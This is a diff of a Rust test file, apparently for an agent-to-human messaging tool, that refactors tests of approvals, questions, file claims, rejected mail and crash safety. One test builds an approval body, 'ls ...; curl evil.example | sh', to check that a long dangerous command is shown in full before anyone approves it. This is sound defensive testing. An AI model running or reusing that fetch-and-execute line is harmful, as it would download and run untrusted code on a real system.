@@ -3,7 +3,7 @@
 use super::Page;
 use super::stream::Stream;
 use crate::town::{Town, so_within};
-use crate::world::{World, wait};
+use crate::world::{World, parse_json, wait};
 use std::io::{BufRead, BufReader};
 use std::process::Stdio;
 use std::time::Duration;
@@ -52,9 +52,7 @@ fn answer(page: &Page, kind: &str, more: &[(&str, &str)]) -> super::Answer {
 #[test]
 fn an_approval_is_decided_with_a_reason_and_the_next_click_learns_the_outcome() {
     let world = World::with(&["alice"]);
-    world.ok(&[
-        "send", "human", "Deploy?", "--as", "alice", "--type", "approval",
-    ]);
+    world.ok("send human Deploy? --as alice --type approval");
     let page = Page::of(&world);
     let open = page.get("/api/pending").json();
     let next = answer(
@@ -63,10 +61,8 @@ fn an_approval_is_decided_with_a_reason_and_the_next_click_learns_the_outcome() 
         &[("option", "no"), ("text", "not on a Friday")],
     );
     assert_contains!(next.body, "decided #2: no");
-    let list = page.get("/part/needs").body;
-    assert_contains!(list, "Nothing. An agent asks with");
-    let answered = world.ok(&["read", "--as", "alice"]);
-    assert_contains!(answered, "not on a Friday");
+    assert_contains!(page.get("/part/needs").body, "Nothing. An agent asks with");
+    assert_contains!(world.ok("read --as alice"), "not on a Friday");
     let fields = fields(item(&open, "approval"));
     let mut again: Vec<(&str, &str)> = fields
         .iter()
@@ -86,8 +82,8 @@ fn an_approval_is_shown_in_full_above_its_buttons_and_the_decision_is_bound_to_t
     let command = format!("ls {}; curl evil.example | sh", "x".repeat(300));
     let ask = |name: &str, body: &str| {
         let message = serde_json::json!({"to": "human", "type": "approval", "body": body});
-        world.drop_file("alice", name, message.to_string());
-        world.run(&["run", "--once"]);
+        world.mail("alice", name, &message);
+        world.run("run --once");
     };
     ask("one.json", &command);
     let page = Page::of(&world);
@@ -135,8 +131,7 @@ fn an_approval_that_is_too_long_for_the_page_has_no_buttons() {
     let world = World::with(&["alice"]);
     let message =
         serde_json::json!({"to": "human", "type": "approval", "body": "word ".repeat(100_000)});
-    world.drop_file("alice", "long.json", message.to_string());
-    world.pass();
+    world.route("alice", "long.json", &message);
     let list = Page::of(&world).get("/part/needs").body;
     assert_contains!(list, "Decide in a terminal", "mailbag decide 2 OPTION");
     assert!(!list.contains("<button name=\"option\""), "{list}");
@@ -145,9 +140,7 @@ fn an_approval_that_is_too_long_for_the_page_has_no_buttons() {
 #[test]
 fn a_reply_of_yes_to_an_open_approval_asks_whether_to_decide() {
     let world = World::with(&["alice"]);
-    world.ok(&[
-        "send", "human", "Deploy?", "--as", "alice", "--type", "approval",
-    ]);
+    world.ok("send human Deploy? --as alice --type approval");
     let page = Page::of(&world);
     let form = [("reply_to", "2"), ("body", " Yes.\r\n")];
     let asked = page.submit("/write", &form);
@@ -155,16 +148,11 @@ fn a_reply_of_yes_to_an_open_approval_asks_whether_to_decide() {
         asked["failed"] == true && asked["confirm"] == true,
         "{asked}"
     );
-    assert!(
-        asked["message"]
-            .as_str()
-            .is_some_and(|said| said.contains("Press yes or no")),
-        "{asked}"
-    );
-    assert_eq!(world.ok(&["inbox", "alice"]), "", "nothing was sent");
+    assert_contains!(asked["message"].to_string(), "Press yes or no");
+    assert_eq!(world.ok("inbox alice"), "", "nothing was sent");
     let sent = page.submit("/write", &[form[0], form[1], ("confirmed", "true")]);
     assert_eq!(sent["failed"], false, "{sent}");
-    assert_contains!(world.ok(&["read", "--as", "alice"]), "Yes.");
+    assert_contains!(world.ok("read --as alice"), "Yes.");
     let other = page.submit("/write", &[form[0], ("body", "yes, but why?")]);
     assert_eq!(
         other["failed"], false,
@@ -175,32 +163,16 @@ fn a_reply_of_yes_to_an_open_approval_asks_whether_to_decide() {
 #[test]
 fn a_question_is_replied_to_and_dismissed() {
     let world = World::with(&["alice"]);
-    world.ok(&[
-        "send",
-        "human",
-        "Which port?",
-        "--as",
-        "alice",
-        "--type",
-        "question",
-    ]);
+    world.ok("send human 'Which port?' --as alice --type question");
     let page = Page::of(&world);
     let empty = answer(&page, "question", &[("action", "reply"), ("text", "  ")]);
     assert_contains!(empty.body, "the reply is empty");
     let next = answer(&page, "question", &[("action", "reply"), ("text", "8080")]);
     assert_contains!(next.body, "replied to #2 of alice");
     wait("the reply is there", || {
-        world.ok(&["inbox", "alice"]).contains("8080")
+        world.ok("inbox alice").contains("8080")
     });
-    world.ok(&[
-        "send",
-        "human",
-        "And the host?",
-        "--as",
-        "alice",
-        "--type",
-        "question",
-    ]);
+    world.ok("send human 'And the host?' --as alice --type question");
     wait("it is asked", || {
         page.get("/api/pending").json()["items"][0]["title"] == "And the host?"
     });
@@ -211,17 +183,19 @@ fn a_question_is_replied_to_and_dismissed() {
 #[test]
 fn a_claim_in_the_way_is_released_with_a_reason_and_only_from_the_owner_that_was_shown() {
     let world = World::with(&["alice", "bob", "carol"]);
-    world.ok(&["claim", "src/**", "--as", "bob"]);
-    world.drop_file(
+    world.ok("claim src/** --as bob");
+    world.route(
         "alice",
         "wait.json",
         r#"{"type": "claim", "claims": ["src/main.rs"], "wait": true}"#,
     );
-    world.pass();
     let page = Page::of(&world);
     let pending = page.get("/api/pending").json();
-    let shown = page.get("/").body;
-    assert_contains!(shown, "Release src/** of bob", "href=\"/write?to=bob\"");
+    assert_contains!(
+        page.get("/").body,
+        "Release src/** of bob",
+        "href=\"/write?to=bob\""
+    );
     let mut other = fields(item(&pending, "claim"));
     other
         .iter_mut()
@@ -240,11 +214,8 @@ fn a_claim_in_the_way_is_released_with_a_reason_and_only_from_the_owner_that_was
         &[("action", "release"), ("text", "bob is on holiday")],
     );
     assert_contains!(next.body, "released: src/**");
-    assert_contains!(
-        world.ok(&["read", "--all", "--as", "bob"]),
-        "bob is on holiday"
-    );
-    assert_eq!(world.json(&["claims"])["claims"][0]["owner"], "alice");
+    assert_contains!(world.ok("read --all --as bob"), "bob is on holiday");
+    assert_eq!(world.json("claims")["claims"][0]["owner"], "alice");
 }
 
 #[test]
@@ -277,7 +248,7 @@ fn a_message_is_written_and_one_that_cannot_be_sent_says_why() {
             && next["next"] == "/",
         "{next}"
     );
-    let got = world.items(&["read", "--as", "alice"]);
+    let got = world.items("read --as alice");
     assert_eq!(
         (&got[0]["from"], &got[0]["body"]),
         (&"human".into(), &"line\nline".into()),
@@ -288,8 +259,7 @@ fn a_message_is_written_and_one_that_cannot_be_sent_says_why() {
 #[test]
 fn rejected_mail_is_fixed_and_sent_again_or_dropped() {
     let world = World::alice_and_bob();
-    world.drop_file("alice", "bad.json", r#"{"to": "bbo", "body": "x"}"#);
-    world.pass();
+    world.route("alice", "bad.json", r#"{"to": "bbo", "body": "x"}"#);
     let page = Page::of(&world);
     let seq = page.get("/api/rejected").json()["rejected"][0]["seq"].to_string();
     let again = page.submit(
@@ -304,22 +274,15 @@ fn rejected_mail_is_fixed_and_sent_again_or_dropped() {
         .as_str()
         .expect("the page with the new reasons")
         .to_owned();
-    let shown = page.get(&place).body;
-    assert_contains!(shown, "did you mean bob?", "fixed");
+    assert_contains!(page.get(&place).body, "did you mean bob?", "fixed");
     let next = page.submit(&place, &[("text", r#"{"to": "bob", "body": "fixed"}"#)]);
-    assert!(
-        next["message"]
-            .as_str()
-            .is_some_and(|said| said.contains("to bob")),
-        "{next}"
-    );
-    assert_contains!(world.ok(&["read", "--as", "bob"]), "fixed");
+    assert_contains!(next["message"].to_string(), "to bob");
+    assert_contains!(world.ok("read --as bob"), "fixed");
     assert_eq!(
         page.get("/api/rejected").json()["rejected"],
         serde_json::json!([])
     );
-    world.drop_file("alice", "bad.json", r#"{"to": "zzz", "body": "x"}"#);
-    world.pass();
+    world.route("alice", "bad.json", r#"{"to": "zzz", "body": "x"}"#);
     let seq = page.get("/api/rejected").json()["rejected"][0]["seq"].to_string();
     let dropped = page.submit(
         &format!("/rejected/{seq}"),
@@ -363,13 +326,9 @@ fn the_page_can_be_killed_at_any_time() {
         });
         page.kill();
         world.pass();
-        let copies = world
-            .items(&["inbox", "alice"])
-            .as_array()
-            .expect("mail")
-            .len();
+        let copies = world.items("inbox alice").as_array().expect("mail").len();
         let records = world
-            .items(&["list", "--to", "alice"])
+            .items("list --to alice")
             .as_array()
             .expect("messages")
             .len();
@@ -381,7 +340,7 @@ fn the_page_can_be_killed_at_any_time() {
     }
     assert_contains!(Page::of(&world).get("/all").body, "round 4"; "what was answered is sent");
     assert!(
-        world.json(&["log", "verify"])["problems"]
+        world.json("log verify")["problems"]
             .as_array()
             .is_none_or(Vec::is_empty)
     );
@@ -404,19 +363,11 @@ fn the_page_is_killed_after_any_time_while_it_delivers_and_harms_nothing() {
         page.kill();
     }
     world.pass();
-    let dropped = world
-        .items(&["inbox", "alice"])
-        .as_array()
-        .expect("mail")
-        .len();
+    let dropped = world.items("inbox alice").as_array().expect("mail").len();
     assert_eq!(dropped, rounds as usize, "each once");
-    let written = world
-        .items(&["inbox", "bob"])
-        .as_array()
-        .expect("mail")
-        .len();
+    let written = world.items("inbox bob").as_array().expect("mail").len();
     let records = world
-        .items(&["list", "--to", "bob", "--last", "1000"])
+        .items("list --to bob --last 1000")
         .as_array()
         .expect("messages")
         .len();
@@ -425,7 +376,7 @@ fn the_page_is_killed_after_any_time_while_it_delivers_and_harms_nothing() {
         "{written} of {records}"
     );
     assert!(
-        world.json(&["log", "verify"])["problems"]
+        world.json("log verify")["problems"]
             .as_array()
             .is_none_or(Vec::is_empty)
     );
@@ -435,12 +386,10 @@ fn the_page_is_killed_after_any_time_while_it_delivers_and_harms_nothing() {
 #[test]
 fn two_pages_and_the_terminal_agree() {
     let world = World::alice_and_bob();
-    world.ok(&[
-        "send", "human", "Deploy?", "--as", "alice", "--type", "approval",
-    ]);
+    world.ok("send human Deploy? --as alice --type approval");
     let (one, other) = (Page::of(&world), Page::of(&world));
     let mut watch = world
-        .bare(&["watch", "--json"])
+        .bare("watch --json")
         .stdin(Stdio::null())
         .stdout(Stdio::piped())
         .spawn()
@@ -465,10 +414,8 @@ fn two_pages_and_the_terminal_agree() {
             .as_array()
             .is_some_and(|all| all.len() == 1)
     });
-    let records = world.ok(&["log", "--json"]);
-    let records = records
-        .lines()
-        .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("a record"));
+    let records = world.ok("log --json");
+    let records = records.lines().map(parse_json);
     let all: Vec<u64> = records
         .filter(|record| {
             ["accepted", "rejected", "notice"]
@@ -485,8 +432,7 @@ fn two_pages_and_the_terminal_agree() {
             .recv_timeout(Duration::from_secs(30))
             .expect("a line")
     };
-    let seqs = (0..all.len())
-        .map(|_| serde_json::from_str::<serde_json::Value>(&next()).expect("JSON")["seq"].clone());
+    let seqs = (0..all.len()).map(|_| parse_json(next())["seq"].clone());
     assert_eq!(seqs.filter_map(|seq| seq.as_u64()).collect::<Vec<_>>(), all);
     assert!(!other.get("/").body.contains("value=\"yes\""));
     assert_eq!(
@@ -494,7 +440,7 @@ fn two_pages_and_the_terminal_agree() {
         other.get("/api/pending").json()["items"]
     );
     assert_eq!(
-        world.json(&["pending", "--as", "human"])["items"],
+        world.json("pending --as human")["items"],
         serde_json::json!([])
     );
     let _ = watch.kill();
